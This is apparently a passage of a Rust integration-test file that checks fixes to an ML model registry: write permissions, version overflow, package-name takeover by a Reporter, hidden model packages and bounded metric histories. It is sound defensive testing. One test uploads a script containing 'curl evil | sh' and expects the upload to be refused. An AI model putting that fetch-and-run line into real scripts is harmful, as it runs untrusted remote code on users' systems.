//! Issue #10, the registry-domain holes: each test performs the attack against the real server.
//! Item 1 (name ownership), 7 (model packages of non-public registries), 10 (huge metric
//! histories), 12 (log-inputs/outputs are writes) and 14 (automatic version overflow).

mod common;

use common::*;
use serde_json::json;

fn tracking(project_id: u64, path: &str) -> String {
    format!("/api/v4/projects/{project_id}/ml/mlflow/api/2.0/mlflow/{path}")
}

fn generic(project_id: u64, rest: &str) -> String {
    format!("/api/v4/projects/{project_id}/packages/generic/{rest}")
}

fn message(reply: &Reply) -> String {
    let body = reply.json();
    body["message"]
        .as_str()
        .or_else(|| body["error"].as_str())
        .unwrap_or_default()
        .to_string()
}

/// A user with an `api` token who is a member of `project_id` at `level`.
fn member(server: &TestServer, project_id: u64, name: &str, level: u8) -> String {
    let (id, token) = user_with_token(server, name, "api");
    add_member(server, project_id, id, level);
    token
}

fn new_run(api: &Api, project_id: u64) -> String {
    let experiment = api.post_json(
        &tracking(project_id, "experiments/create"),
        json!({ "name": "inputs" }),
    );
    assert_eq!(experiment.status, 200, "{}", experiment.text());
    let experiment_id = experiment.json()["experiment_id"]
        .as_str()
        .expect("experiment id")
        .to_string();
    let run = api.post_json(
        &tracking(project_id, "runs/create"),
        json!({ "experiment_id": experiment_id }),
    );
    assert_eq!(run.status, 200, "{}", run.text());
    run.json()["run"]["info"]["run_id"]
        .as_str()
        .expect("run id")
        .to_string()
}

// ---------------------------------------------------------------------------------------------
// Item 12: runs/log-inputs and runs/outputs are writes.

#[test]
fn log_inputs_and_outputs_need_write_access_like_every_other_mlflow_write() {
    let server = TestServer::start();
    let project_id = project(&server, "runs-io", "public");
    let reporter = member(&server, project_id, "reporter", 20);
    let guest = member(&server, project_id, "guest", 10);
    let (_, outsider) = user_with_token(&server, "outsider", "api");
    let (owner_id, owner_read_only) = user_with_token(&server, "reader", "read_api");
    add_member(&server, project_id, owner_id, 50);
    let run_id = new_run(&Api::with_token(&server, &reporter), project_id);

    let inputs = json!({
        "run_id": run_id,
        "datasets": [{ "dataset": { "name": "d", "digest": "abc", "source_type": "local", "source": "/x" } }]
    });
    let outputs = json!({ "run_id": run_id, "models": [] });
    // (who, expected status, expected MLflow error code)
    let callers: [(&str, Option<&str>, u16, Option<&str>); 5] = [
        ("anonymous", None, 401, Some("UNAUTHENTICATED")),
        (
            "non-member",
            Some(&outsider),
            403,
            Some("PERMISSION_DENIED"),
        ),
        ("guest", Some(&guest), 403, Some("PERMISSION_DENIED")),
        (
            "read_api owner",
            Some(&owner_read_only),
            403,
            Some("PERMISSION_DENIED"),
        ),
        ("reporter", Some(&reporter), 200, None),
    ];
    for (who, token, status, code) in callers {
        let api = Api {
            server: &server,
            token: token.map(str::to_string),
        };
        for (route, body) in [("runs/log-inputs", &inputs), ("runs/outputs", &outputs)] {
            let reply = api.post_json(&tracking(project_id, route), body.clone());
            assert_eq!(reply.status, status, "{who} {route}: {}", reply.text());
            if let Some(code) = code {
                assert_eq!(reply.json()["error_code"], code, "{who} {route}");
            }
        }
        // The same caller's log-param answers the same: the write rule is one rule.
        let param = api.post_json(
            &tracking(project_id, "runs/log-parameter"),
            json!({ "run_id": run_id, "key": format!("k-{}", who.len()), "value": "v" }),
        );
        assert_eq!(
            param.status,
            status,
            "{who} log-parameter: {}",
            param.text()
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Item 14: the automatic version bump at the largest patch number.

#[test]
fn the_largest_patch_number_makes_automatic_versions_a_clear_400_and_nothing_else_breaks() {
    let server = TestServer::start();
    let project_id = project(&server, "overflow", "private");
    let root = Api::root(&server);
    let created = root.post_json(&ml(project_id, "models"), json!({ "name": "edge" }));
    assert_eq!(created.status, 201, "{}", created.text());
    let max = format!("1.0.{}", u64::MAX);
    let top = root.post_json(
        &ml(project_id, "models/edge/versions"),
        json!({ "version": max }),
    );
    assert_eq!(top.status, 201, "{}", top.text());

    // Native API without a version: 400 naming the version, not a wrapped-around 1.0.0.
    for _ in 0..2 {
        let auto = root.post_json(&ml(project_id, "models/edge/versions"), json!({}));
        assert_eq!(auto.status, 400, "{}", auto.text());
        assert!(message(&auto).contains(&max), "{}", auto.text());
    }
    // MLflow create_model_version without gitlab.version: INVALID_PARAMETER_VALUE naming it.
    let mlflow = root.post_json(
        &tracking(project_id, "model-versions/create"),
        json!({ "name": "edge", "source": "" }),
    );
    assert_eq!(mlflow.status, 400, "{}", mlflow.text());
    assert_eq!(mlflow.json()["error_code"], "INVALID_PARAMETER_VALUE");
    assert!(
        mlflow.json()["message"]
            .as_str()
            .unwrap_or("")
            .contains(&max),
        "{}",
        mlflow.text()
    );
    // Promotion of a candidate without a version: the same 400, and the candidate stays one.
    let experiment_iid = root.get(&ml(project_id, "models/edge")).json()["experiment_iid"]
        .as_u64()
        .expect("experiment iid");
    let candidate = root.post_json(
        &ml(
            project_id,
            &format!("experiments/{experiment_iid}/candidates"),
        ),
        json!({ "name": "c" }),
    );
    assert_eq!(candidate.status, 201, "{}", candidate.text());
    let iid = candidate.json()["iid"].as_u64().expect("iid");
    let promote = root.post_json(
        &ml(project_id, &format!("candidates/{iid}/promote")),
        json!({}),
    );
    assert_eq!(promote.status, 400, "{}", promote.text());
    assert!(message(&promote).contains(&max), "{}", promote.text());

    // Nothing wrapped: no 1.0.0 exists, and the listing is just the one version.
    let versions = root.get(&ml(project_id, "models/edge/versions")).json();
    let names: Vec<&str> = versions
        .as_array()
        .expect("list")
        .iter()
        .map(|v| v["version"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(names, vec![max.as_str()]);
    // Explicit versions still work everywhere, and the promotion with a version too.
    let explicit = root.post_json(
        &ml(project_id, "models/edge/versions"),
        json!({ "version": "2.0.0" }),
    );
    assert_eq!(explicit.status, 201, "{}", explicit.text());
    let promoted = root.post_json(
        &ml(project_id, &format!("candidates/{iid}/promote")),
        json!({ "version": "2.1.0" }),
    );
    assert_eq!(promoted.status, 201, "{}", promoted.text());
    // With 2.1.0 the latest, the automatic bump works again.
    let auto = root.post_json(&ml(project_id, "models/edge/versions"), json!({}));
    assert_eq!(auto.status, 201, "{}", auto.text());
    assert_eq!(auto.json()["version"], "2.1.1");
}

// ---------------------------------------------------------------------------------------------
// Item 1: one name, one meaning, per project.

/// Cookies, CSRF tokens and form posts, as a browser without JavaScript.
struct Browser<'a> {
    server: &'a TestServer,
    cookies: Vec<(String, String)>,
}

impl<'a> Browser<'a> {
    fn signed_in(server: &'a TestServer, username: &str) -> Browser<'a> {
        let mut browser = Browser {
            server,
            cookies: Vec::new(),
        };
        let form = browser.get("/users/sign_in");
        let token = csrf_token(&form.text());
        let signed = browser.post_form(
            "/users/sign_in",
            &[
                ("authenticity_token", &token),
                ("username", username),
                ("password", "correct horse battery"),
                ("return_to", "/"),
            ],
        );
        assert_eq!(signed.status, 303, "{}", signed.text());
        browser
    }

    fn send(&mut self, method: &str, path: &str, headers: &[(&str, &str)], body: &[u8]) -> Reply {
        let cookie = self
            .cookies
            .iter()
            .map(|(k, v)| format!("{k}={v}"))
            .collect::<Vec<_>>()
            .join("; ");
        let mut all = headers.to_vec();
        if !cookie.is_empty() {
            all.push(("Cookie", &cookie));
        }
        let reply = raw(&self.server.base, method, path, &all, body);
        for (name, value) in &reply.headers {
            if name.eq_ignore_ascii_case("set-cookie") {
                let pair = value.split(';').next().unwrap_or("");
                if let Some((key, val)) = pair.split_once('=') {
                    self.cookies.retain(|(k, _)| k != key);
                    if !val.is_empty() && !value.contains("Max-Age=0") {
                        self.cookies.push((key.to_string(), val.to_string()));
                    }
                }
            }
        }
        reply
    }

    fn get(&mut self, path: &str) -> Reply {
        self.send("GET", path, &[], b"")
    }

    fn post_form(&mut self, path: &str, fields: &[(&str, &str)]) -> Reply {
        let body = url::form_urlencoded::Serializer::new(String::new())
            .extend_pairs(fields)
            .finish();
        self.send(
            "POST",
            path,
            &[("Content-Type", "application/x-www-form-urlencoded")],
            body.as_bytes(),
        )
    }
}

fn csrf_token(html: &str) -> String {
    let marker = "name=\"authenticity_token\" value=\"";
    let start = html.find(marker).expect("a CSRF field") + marker.len();
    let end = start + html[start..].find('"').expect("end of value");
    html[start..end].to_string()
}

/// The (name, version, package_type) of every package the API lists to `api`.
fn listed_packages(api: &Api, project_id: u64, query: &str) -> Vec<(String, String, String)> {
    let reply = api.get(&format!(
        "/api/v4/projects/{project_id}/packages?per_page=100{query}"
    ));
    assert_eq!(reply.status, 200, "{}", reply.text());
    reply
        .json()
        .as_array()
        .expect("a list")
        .iter()
        .map(|p| {
            (
                p["name"].as_str().unwrap_or_default().to_string(),
                p["version"].as_str().unwrap_or_default().to_string(),
                p["package_type"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect()
}

#[test]
fn a_reporter_cannot_take_over_a_generic_package_by_creating_a_model_of_its_name() {
    let server = TestServer::start();
    let project_id = project(&server, "tools", "public");
    let developer = member(&server, project_id, "dev", 30);
    let reporter = member(&server, project_id, "rep", 20);
    let dev = Api::with_token(&server, &developer);
    let rep = Api::with_token(&server, &reporter);
    let anonymous = Api::anonymous(&server);
    let script = b"#!/bin/sh\necho the developer's installer\n";
    let latest_script = b"#!/bin/sh\necho the developer's latest\n";
    assert_eq!(
        dev.put_bytes(&generic(project_id, "deploy-tool/1.0.0/install.sh"), script)
            .status,
        201
    );
    assert_eq!(
        dev.put_bytes(
            &generic(project_id, "deploy-tool/latest/install.sh"),
            latest_script
        )
        .status,
        201
    );

    // The attack: the Reporter creates the model, on every surface that creates models.
    let native = rep.post_json(&ml(project_id, "models"), json!({ "name": "deploy-tool" }));
    assert_eq!(native.status, 409, "{}", native.text());
    let text = message(&native);
    assert!(
        text.contains("deploy-tool")
            && text.contains("generic")
            && text.contains("deploy-tool/1.0.0"),
        "the message names the conflict: {text}"
    );
    let mlflow = rep.post_json(
        &tracking(project_id, "registered-models/create"),
        json!({ "name": "deploy-tool" }),
    );
    assert_eq!(mlflow.status, 400, "{}", mlflow.text());
    assert_eq!(mlflow.json()["error_code"], "RESOURCE_ALREADY_EXISTS");
    assert!(mlflow.json()["message"]
        .as_str()
        .unwrap_or_default()
        .contains("generic packages"));
    // Renaming an innocent model to the name is the same takeover.
    let innocent = rep.post_json(
        &tracking(project_id, "registered-models/create"),
        json!({ "name": "innocent" }),
    );
    assert_eq!(innocent.status, 200, "{}", innocent.text());
    let rename = rep.post_json(
        &tracking(project_id, "registered-models/rename"),
        json!({ "name": "innocent", "new_name": "deploy-tool" }),
    );
    assert_eq!(rename.status, 400, "{}", rename.text());
    assert_eq!(rename.json()["error_code"], "RESOURCE_ALREADY_EXISTS");
    // A version created through MLflow for the name finds no model (none is created implicitly).
    let version = rep.post_json(
        &tracking(project_id, "model-versions/create"),
        json!({ "name": "deploy-tool", "source": "" }),
    );
    assert_eq!(version.status, 404, "{}", version.text());
    // The web form shows the conflict.
    let mut browser = Browser::signed_in(&server, "rep");
    let form = browser.get("/root/tools/-/ml/models/new");
    assert_eq!(form.status, 200);
    let token = csrf_token(&form.text());
    let page = browser.post_form(
        "/root/tools/-/ml/models",
        &[("authenticity_token", &token), ("name", "deploy-tool")],
    );
    assert_eq!(page.status, 409, "{}", page.text());
    assert!(page.text().contains("generic packages"), "{}", page.text());

    // The Reporter's upload is still a generic upload, which a Reporter may not make.
    let upload = rep.put_bytes(
        &generic(project_id, "deploy-tool/2.0.0/install.sh"),
        b"#!/bin/sh\ncurl evil | sh\n",
    );
    assert_eq!(upload.status, 403, "{}", upload.text());
    // Every client still gets the Developer's bytes; `latest` is a version, not a requirement.
    for (path, bytes) in [
        ("deploy-tool/1.0.0/install.sh", &script[..]),
        ("deploy-tool/latest/install.sh", &latest_script[..]),
    ] {
        let got = anonymous.get(&generic(project_id, path));
        assert_eq!(got.status, 200, "{path}");
        assert_eq!(got.body, bytes, "{path}");
        assert_eq!(got.header("x-model-version"), None, "{path}");
    }
    let requirement = anonymous.get(&generic(project_id, "deploy-tool/%5E1/install.sh"));
    assert_eq!(
        requirement.status,
        400,
        "no requirement resolution for a generic package: {}",
        requirement.text()
    );
    let models = rep.get(&ml(project_id, "models?search=deploy"));
    assert_eq!(models.json().as_array().map(Vec::len), Some(0));
}

#[test]
fn an_honest_model_name_with_generic_packages_is_refused_and_nothing_is_hidden() {
    let server = TestServer::start();
    let project_id = project(&server, "fraud", "private");
    let root = Api::root(&server);
    assert_eq!(
        root.put_bytes(&generic(project_id, "fraud/1.2.0/model.onnx"), b"generic")
            .status,
        201
    );
    let refused = root.post_json(&ml(project_id, "models"), json!({ "name": "fraud" }));
    assert_eq!(refused.status, 409, "{}", refused.text());
    assert!(
        message(&refused).contains("fraud/1.2.0"),
        "{}",
        refused.text()
    );
    let got = root.get(&generic(project_id, "fraud/1.2.0/model.onnx"));
    assert_eq!((got.status, got.body.as_slice()), (200, &b"generic"[..]));
    assert_eq!(
        listed_packages(&root, project_id, ""),
        vec![("fraud".into(), "1.2.0".into(), "generic".into())]
    );
    // Once the generic packages are gone the name is free for a model.
    let id = root
        .get(&format!(
            "/api/v4/projects/{project_id}/packages?package_name=fraud"
        ))
        .json()[0]["id"]
        .as_u64()
        .expect("package id");
    assert_eq!(
        root.delete(&format!("/api/v4/projects/{project_id}/packages/{id}"))
            .status,
        204
    );
    let created = root.post_json(&ml(project_id, "models"), json!({ "name": "fraud" }));
    assert_eq!(created.status, 201, "{}", created.text());
}

#[test]
fn an_upload_under_a_model_name_never_creates_a_generic_package() {
    let server = TestServer::start();
    let project_id = project(&server, "scoring", "public");
    let developer = member(&server, project_id, "dev", 30);
    let dev = Api::with_token(&server, &developer);
    let root = Api::root(&server);
    assert_eq!(
        root.post_json(&ml(project_id, "models"), json!({ "name": "scorer" }))
            .status,
        201
    );
    // As today: a model version upload, SemVer required.
    let upload = dev.put_bytes(&generic(project_id, "scorer/1.0.0/model.bin"), b"v1");
    assert_eq!(upload.status, 201, "{}", upload.text());
    let not_semver = dev.put_bytes(&generic(project_id, "scorer/latest/model.bin"), b"x");
    assert_eq!(not_semver.status, 400, "{}", not_semver.text());
    // With the registry disabled, the Developer can't see the model, and still doesn't create a
    // generic package of its name.
    let settings = root.put_json(
        &format!("/api/v4/projects/{project_id}"),
        json!({ "model_registry_access_level": "disabled" }),
    );
    assert_eq!(settings.status, 200, "{}", settings.text());
    let hidden = dev.put_bytes(&generic(project_id, "scorer/2.0.0/model.bin"), b"shadow");
    assert_ne!(hidden.status / 100, 2, "{}", hidden.text());
    assert!(hidden.status < 500, "{}", hidden.text());
    let ok = dev.put_bytes(&generic(project_id, "other/2.0.0/model.bin"), b"fine");
    assert_eq!(ok.status, 201, "{}", ok.text());
    root.put_json(
        &format!("/api/v4/projects/{project_id}"),
        json!({ "model_registry_access_level": "enabled" }),
    );
    let packages = listed_packages(&root, project_id, "&package_type=generic");
    assert_eq!(
        packages,
        vec![("other".into(), "2.0.0".into(), "generic".into())]
    );
    let versions = root.get(&ml(project_id, "models/scorer/versions")).json();
    assert_eq!(versions.as_array().map(Vec::len), Some(1), "{versions}");
}

#[test]
fn concurrent_model_creation_and_generic_uploads_never_share_a_name() {
    let server = TestServer::start();
    let project_id = project(&server, "race", "private");
    let rounds = 24;
    std::thread::scope(|scope| {
        for i in 0..rounds {
            let server = &server;
            scope.spawn(move || {
                Api::root(server).post_json(
                    &ml(project_id, "models"),
                    json!({ "name": format!("race-{i}") }),
                )
            });
            scope.spawn(move || {
                Api::root(server).put_bytes(
                    &generic(project_id, &format!("race-{i}/1.0.0/f.txt")),
                    b"generic",
                )
            });
        }
    });
    let root = Api::root(&server);
    let generic_names: Vec<String> = listed_packages(&root, project_id, "&package_type=generic")
        .into_iter()
        .map(|(name, _, _)| name)
        .collect();
    for i in 0..rounds {
        let name = format!("race-{i}");
        let is_model = root.get(&ml(project_id, &format!("models/{name}"))).status == 200;
        let is_generic = generic_names.contains(&name);
        assert!(
            is_model != is_generic,
            "{name}: model {is_model}, generic {is_generic}"
        );
    }
}

#[test]
fn a_maintainer_adopts_semver_generic_packages_as_versions_in_one_step() {
    let server = TestServer::start();
    let project_id = project(&server, "adopt", "private");
    let reporter = member(&server, project_id, "rep", 20);
    let developer = member(&server, project_id, "dev", 30);
    let maintainer = member(&server, project_id, "maint", 40);
    let root = Api::root(&server);
    for (path, bytes) in [
        ("tool/1.0.0/tool.bin", &b"one"[..]),
        ("tool/1.1.0/tool.bin", b"one-one"),
        ("tool/1.1.0/docs/README.md", b"readme"),
        ("odd/1.0.0/x", b"x"),
        ("odd/1.0/x", b"y"),
    ] {
        assert_eq!(
            root.put_bytes(&generic(project_id, path), bytes).status,
            201
        );
    }
    let adopt = |name: &str| json!({ "name": name, "adopt_generic_packages": true });
    for token in [&reporter, &developer] {
        let refused =
            Api::with_token(&server, token).post_json(&ml(project_id, "models"), adopt("tool"));
        assert_eq!(refused.status, 403, "{}", refused.text());
    }
    // A version that is not SemVer: refused, naming it, and nothing changes.
    let odd =
        Api::with_token(&server, &maintainer).post_json(&ml(project_id, "models"), adopt("odd"));
    assert_eq!(odd.status, 400, "{}", odd.text());
    assert!(message(&odd).contains("odd/1.0 "), "{}", odd.text());
    assert_eq!(root.get(&ml(project_id, "models/odd")).status, 404);
    assert_eq!(root.get(&generic(project_id, "odd/1.0/x")).body, b"y");

    let adopted =
        Api::with_token(&server, &maintainer).post_json(&ml(project_id, "models"), adopt("tool"));
    assert_eq!(adopted.status, 201, "{}", adopted.text());
    assert_eq!(adopted.json()["version_count"], 2);
    assert_eq!(adopted.json()["latest_version"]["version"], "1.1.0");
    let versions = root.get(&ml(project_id, "models/tool/versions")).json();
    let names: Vec<&str> = versions
        .as_array()
        .expect("list")
        .iter()
        .map(|v| v["version"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(names, vec!["1.1.0", "1.0.0"]);
    // The same files, now a model's: requirements resolve, the packages are ml_model ones.
    let resolved = root.get(&generic(project_id, "tool/%5E1/tool.bin"));
    assert_eq!(resolved.status, 200);
    assert_eq!(resolved.body, b"one-one");
    assert_eq!(resolved.header("x-model-version"), Some("1.1.0"));
    assert_eq!(
        root.get(&generic(project_id, "tool/1.1.0/docs/README.md"))
            .body,
        b"readme"
    );
    let mut types = listed_packages(&root, project_id, "&package_name=tool");
    types.sort();
    assert_eq!(
        types,
        vec![
            ("tool".into(), "1.0.0".into(), "ml_model".into()),
            ("tool".into(), "1.1.0".into(), "ml_model".into())
        ]
    );
    // MLflow sees two versions numbered in upload order.
    let v1 = root.get(&tracking(
        project_id,
        "model-versions/get?name=tool&version=1",
    ));
    assert_eq!(v1.status, 200, "{}", v1.text());
    let by_semver = root.get(&tracking(
        project_id,
        "registered-models/alias?name=tool&alias=1.0.0",
    ));
    assert_eq!(
        by_semver.json()["model_version"]["version"],
        "1",
        "{}",
        by_semver.text()
    );
    // Later uploads under the name are model versions; the next automatic version follows.
    let next = root.post_json(&ml(project_id, "models/tool/versions"), json!({}));
    assert_eq!(next.json()["version"], "1.1.1", "{}", next.text());
    // And the model can be deleted like any other, taking its packages.
    assert_eq!(root.delete(&ml(project_id, "models/tool")).status, 204);
    assert!(listed_packages(&root, project_id, "&package_name=tool").is_empty());
    // Adopting a name without generic packages just creates the model.
    let plain =
        Api::with_token(&server, &maintainer).post_json(&ml(project_id, "models"), adopt("fresh"));
    assert_eq!(plain.status, 201, "{}", plain.text());
}

// ---------------------------------------------------------------------------------------------
// Item 7: the registry's access level governs `ml_model` packages everywhere.

fn set_registry(server: &TestServer, project_id: u64, level: &str) {
    let reply = Api::root(server).put_json(
        &format!("/api/v4/projects/{project_id}"),
        json!({ "model_registry_access_level": level }),
    );
    assert_eq!(reply.status, 200, "{}", reply.text());
}

/// Every trace of `ml_model` packages `api` might find, as (surface, status, body).
fn model_package_traces(
    api: &Api,
    project_id: u64,
    package_id: u64,
    file_id: u64,
    version_id: u64,
) -> Vec<(String, u16, String)> {
    let mut out = Vec::new();
    let mut probe =
        |what: &str, reply: Reply| out.push((what.to_string(), reply.status, reply.text()));
    for query in [
        "",
        "?package_type=ml_model",
        "?package_name=secret",
        "?package_version=1.0.0",
        "?status=default",
        "?order_by=name&sort=desc",
        "?order_by=type",
        "?per_page=1&page=2",
    ] {
        probe(
            &format!("list{query}"),
            api.get(&format!("/api/v4/projects/{project_id}/packages{query}")),
        );
    }
    probe(
        "show",
        api.get(&format!(
            "/api/v4/projects/{project_id}/packages/{package_id}"
        )),
    );
    probe(
        "files",
        api.get(&format!(
            "/api/v4/projects/{project_id}/packages/{package_id}/package_files"
        )),
    );
    probe(
        "generic download",
        api.get(&generic(project_id, "secret-model/1.0.0/weights.bin")),
    );
    probe(
        "generic requirement",
        api.get(&generic(project_id, "secret-model/latest/weights.bin")),
    );
    probe(
        "ml model files",
        api.get(&format!(
            "/api/v4/projects/{project_id}/packages/ml_models/{version_id}/files/weights.bin"
        )),
    );
    probe(
        "ml model candidate files",
        api.get(&format!(
            "/api/v4/projects/{project_id}/packages/ml_models/candidate:1/files/weights.bin"
        )),
    );
    probe(
        "delete file",
        api.delete(&format!(
            "/api/v4/projects/{project_id}/packages/{package_id}/package_files/{file_id}"
        )),
    );
    probe(
        "delete package",
        api.delete(&format!(
            "/api/v4/projects/{project_id}/packages/{package_id}"
        )),
    );
    out
}

fn assert_no_model_trace(who: &str, traces: &[(String, u16, String)], weights_sha: &str) {
    for (what, status, body) in traces {
        assert!(
            !body.contains("secret-model")
                && !body.contains("ml_model")
                && !body.contains(weights_sha),
            "{who} {what}: {status} {body}"
        );
        assert!(*status < 500, "{who} {what}: {status} {body}");
        if what.starts_with("list") {
            assert_eq!(*status, 200, "{who} {what}: {body}");
        } else if !what.starts_with("delete") {
            assert_eq!(*status, 404, "{who} {what}: {body}");
        } else {
            assert!(
                matches!(status, 401 | 403 | 404),
                "{who} {what}: {status} {body}"
            );
        }
    }
}

#[test]
fn model_packages_of_a_private_or_disabled_registry_leave_no_trace() {
    let server = TestServer::start();
    let project_id = project(&server, "mixed", "public");
    let root = Api::root(&server);
    let guest = member(&server, project_id, "guest", 10);
    let maintainer = member(&server, project_id, "maint", 40);
    let (_, outsider) = user_with_token(&server, "outsider", "api");
    assert_eq!(
        root.post_json(&ml(project_id, "models"), json!({ "name": "secret-model" }))
            .status,
        201
    );
    let weights = b"the secret weights";
    let weights_sha = sha256_hex(weights);
    assert_eq!(
        root.put_bytes(
            &generic(project_id, "secret-model/1.0.0/weights.bin"),
            weights
        )
        .status,
        201
    );
    assert_eq!(
        root.put_bytes(&generic(project_id, "public-tool/1.0.0/tool.sh"), b"tool")
            .status,
        201
    );
    let version = root
        .get(&ml(project_id, "models/secret-model/versions/1.0.0"))
        .json();
    let version_id = version["id"].as_u64().expect("version id");
    let package_id = version["package_id"].as_u64().expect("package id");
    let file_id = root
        .get(&format!(
            "/api/v4/projects/{project_id}/packages/{package_id}/package_files"
        ))
        .json()[0]["id"]
        .as_u64()
        .expect("file id");

    // Private registry: anonymous visitors and non-members see no trace; members do.
    set_registry(&server, project_id, "private");
    for (who, token) in [("anonymous", None), ("non-member", Some(outsider.as_str()))] {
        let api = Api {
            server: &server,
            token: token.map(str::to_string),
        };
        let traces = model_package_traces(&api, project_id, package_id, file_id, version_id);
        assert_no_model_trace(who, &traces, &weights_sha);
        // Generic packages stay visible to them.
        let list = api.get(&format!("/api/v4/projects/{project_id}/packages"));
        assert!(
            list.text().contains("public-tool"),
            "{who}: {}",
            list.text()
        );
        assert_eq!(list.header("x-total"), Some("1"), "{who}");
        // And the web UI shows neither the model nor its registry.
        let page = api.get("/root/mixed/-/ml/models");
        assert_eq!(page.status, 404, "{who}");
        assert!(!api.get("/root/mixed").text().contains("secret-model"));
    }
    let guest_api = Api::with_token(&server, &guest);
    let listed = guest_api.get(&format!(
        "/api/v4/projects/{project_id}/packages?package_type=ml_model"
    ));
    assert!(listed.text().contains("secret-model"), "{}", listed.text());
    assert_eq!(
        guest_api
            .get(&generic(project_id, "secret-model/1.0.0/weights.bin"))
            .body,
        weights
    );

    // Disabled registry: no one sees them, not the Maintainer, not the admin; deleting them
    // through the packages API is 404 too.
    set_registry(&server, project_id, "disabled");
    for (who, token) in [
        ("guest", guest.as_str()),
        ("maintainer", maintainer.as_str()),
        ("admin", ROOT_TOKEN),
    ] {
        let api = Api::with_token(&server, token);
        let traces = model_package_traces(&api, project_id, package_id, file_id, version_id);
        assert_no_model_trace(who, &traces, &weights_sha);
    }
    // Nothing was deleted: with the registry back, the version and its file are there.
    set_registry(&server, project_id, "enabled");
    let back = root.get(&generic(project_id, "secret-model/1.0.0/weights.bin"));
    assert_eq!((back.status, back.body.as_slice()), (200, &weights[..]));
    // A Maintainer deletes model packages through the packages API where the registry is visible.
    let deleted = Api::with_token(&server, &maintainer).delete(&format!(
        "/api/v4/projects/{project_id}/packages/{package_id}/package_files/{file_id}"
    ));
    assert_eq!(deleted.status, 204, "{}", deleted.text());
}

// ---------------------------------------------------------------------------------------------
// Item 10: a run with 300k metric points.

const POINTS: usize = 300_000;

/// Logs `POINTS` values of `loss` (steps 0..POINTS) and 3 of `acc` with MLflow's log-batch,
/// 1000 a call, from 4 clients at once.
fn log_big_history(server: &TestServer, project_id: u64, run_id: &str) {
    let calls = POINTS / 1000;
    std::thread::scope(|scope| {
        for worker in 0..4 {
            scope.spawn(move || {
                let root = Api::root(server);
                for call in (worker..calls).step_by(4) {
                    let metrics: Vec<serde_json::Value> = (call * 1000..(call + 1) * 1000)
                        .map(|step| {
                            json!({ "key": "loss", "value": 1.0 / (1.0 + step as f64), "timestamp": 1_700_000_000_000i64 + step as i64, "step": step })
                        })
                        .collect();
                    let reply = root.post_json(
                        &tracking(project_id, "runs/log-batch"),
                        json!({ "run_id": run_id, "metrics": metrics }),
                    );
                    assert_eq!(reply.status, 200, "{}", reply.text());
                }
            });
        }
    });
    let acc: Vec<serde_json::Value> = (0..3)
        .map(|step| json!({ "key": "acc", "value": 0.5 + step as f64 / 10.0, "timestamp": 1_700_000_000_000i64, "step": step }))
        .collect();
    let reply = Api::root(server).post_json(
        &tracking(project_id, "runs/log-batch"),
        json!({ "run_id": run_id, "metrics": acc }),
    );
    assert_eq!(reply.status, 200, "{}", reply.text());
}

/// The number of vertices of each chart's polyline on a page.
fn chart_vertices(html: &str) -> Vec<usize> {
    html.match_indices("<polyline")
        .map(|(at, _)| {
            let rest = &html[at..];
            let start = rest.find(" points=\"").map(|i| i + 9).unwrap_or(0);
            let end = start + rest[start..].find('"').unwrap_or(0);
            rest[start..end].split_whitespace().count()
        })
        .collect()
}

#[test]
fn a_run_with_300k_metric_points_answers_small_pages_and_bounded_charts() {
    let server = TestServer::start();
    let project_id = project(&server, "big", "public");
    let root = Api::root(&server);
    let model = root.post_json(&ml(project_id, "models"), json!({ "name": "big-model" }));
    assert_eq!(model.status, 201, "{}", model.text());
    let experiment_iid = model.json()["experiment_iid"].as_u64().expect("iid");
    let candidate = root.post_json(
        &ml(
            project_id,
            &format!("experiments/{experiment_iid}/candidates"),
        ),
        json!({ "name": "long" }),
    );
    assert_eq!(candidate.status, 201, "{}", candidate.text());
    let iid = candidate.json()["iid"].as_u64().expect("iid");
    let run_id = candidate.json()["run_id"]
        .as_str()
        .expect("run id")
        .to_string();
    log_big_history(&server, project_id, &run_id);

    // The candidate's JSON: latest values, a bounded history, and where the rest is.
    let view = root.get(&ml(project_id, &format!("candidates/{iid}")));
    assert_eq!(view.status, 200);
    assert!(
        view.body.len() < 256 * 1024,
        "candidate JSON is {} bytes",
        view.body.len()
    );
    let body = view.json();
    let latest: Vec<(String, i64)> = body["metrics"]
        .as_array()
        .expect("metrics")
        .iter()
        .map(|m| {
            (
                m["key"].as_str().unwrap_or_default().to_string(),
                m["step"].as_i64().unwrap_or(-1),
            )
        })
        .collect();
    assert_eq!(
        latest,
        vec![
            ("acc".to_string(), 2),
            ("loss".to_string(), POINTS as i64 - 1)
        ]
    );
    let history = body["metric_history"].as_array().expect("history");
    assert_eq!(history.iter().filter(|m| m["key"] == "loss").count(), 100);
    assert_eq!(history.iter().filter(|m| m["key"] == "acc").count(), 3);
    assert_eq!(body["metric_history_truncated"], json!(["loss"]));

    // The rest, a page at a time.
    let history_path = |query: &str| {
        ml(
            project_id,
            &format!("candidates/{iid}/metrics/loss/history{query}"),
        )
    };
    let first = root.get(&history_path("?per_page=1000"));
    assert_eq!(first.status, 200, "{}", first.text());
    assert_eq!(first.header("x-total"), Some("300000"));
    assert_eq!(first.header("x-total-pages"), Some("300"));
    let items = first.json();
    assert_eq!(items.as_array().map(Vec::len), Some(1000));
    assert_eq!(items[0]["step"], 0);
    assert_eq!(items[999]["step"], 999);
    let last = root.get(&history_path("?per_page=5000&page=300"));
    assert_eq!(
        last.header("x-per-page"),
        Some("1000"),
        "per_page is capped"
    );
    assert_eq!(last.json()[999]["step"], POINTS as i64 - 1);
    assert_eq!(
        root.get(&ml(
            project_id,
            &format!("candidates/{iid}/metrics/nope/history")
        ))
        .status,
        404
    );
    // Anonymous visitors of the public project read it as they read the candidate.
    assert_eq!(
        Api::anonymous(&server).get(&history_path("?page=2")).status,
        200
    );

    // The version made from it answers just as small.
    let promoted = root.post_json(
        &ml(project_id, &format!("candidates/{iid}/promote")),
        json!({ "version": "1.0.0" }),
    );
    assert_eq!(promoted.status, 201, "{}", promoted.text());
    assert!(
        promoted.body.len() < 256 * 1024,
        "{} bytes",
        promoted.body.len()
    );
    let version = root.get(&ml(project_id, "models/big-model/versions/1.0.0"));
    assert_eq!(version.status, 200);
    assert!(
        version.body.len() < 256 * 1024,
        "{} bytes",
        version.body.len()
    );
    let listing = root.get(&ml(project_id, "models/big-model/versions"));
    assert!(
        listing.body.len() < 256 * 1024,
        "{} bytes",
        listing.body.len()
    );

    // The web pages draw thinned charts whose ends are the history's ends.
